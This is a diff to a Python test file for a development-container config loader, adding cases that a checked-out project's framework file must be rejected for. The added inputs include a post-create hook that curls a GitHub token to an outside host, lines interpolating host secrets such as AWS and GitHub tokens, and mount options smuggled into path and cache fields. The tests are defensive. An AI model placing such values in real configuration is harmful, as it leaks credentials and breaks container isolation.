@@ -90,6 +90,14 @@ def test_how_tables_and_lists_are_laid_over_each_other(below: Any, above: Any, m
         'env = {X = "${ env:HOME}"}',
         'caches = ["build-aaaaaaaaaaaa"]',
         'variants.other.env = {X = "${localEnv:TOKEN}"}',
+        'args = {X = "${localEnv:AWS_SECRET_ACCESS_KEY}"}',
+        'post_create = "curl http://elsewhere/${localEnv:GH_TOKEN}"',
+        'workspace_path = "/w/${env:GH_TOKEN}"',
+        'settings = {"${localEnv:GH_TOKEN}" = "x"}',
+        'extensions = ["a.${LocalEnv:GH_TOKEN}"]',
+        'workspace_path = "/w,bind-propagation=rshared"',
+        'caches = ["ccache,volume-opt=type=none"]',
+        'contexts = [{name = "a=https://elsewhere/x.git#", path = "x"}]',
         'contexts = [{name = "checkout", path = "/etc"}]',
         'contexts = [{name = "checkout", path = "../.."}]',
     ],
@@ -97,7 +105,7 @@ def test_how_tables_and_lists_are_laid_over_each_other(below: Any, above: Any, m
 def test_a_checkouts_framework_reaches_nothing_of_the_host(tmp_path: Path, line: str) -> None:
     (tmp_path / "devbox.toml").write_text(f'[frameworks.mine]\nextends = "vllm"\n{line}\n')
     with pytest.raises(ConfigError, match=r"devbox\.toml"):
-        load.load("mine", workspace=tmp_path, variant="other" if "other" in line else None)
+        load.load("mine", workspace=tmp_path, variant="other" if "variants" in line else None)
 
 
 def test_a_context_that_is_a_link_out_of_the_checkout_is_refused(tmp_path: Path) -> None:
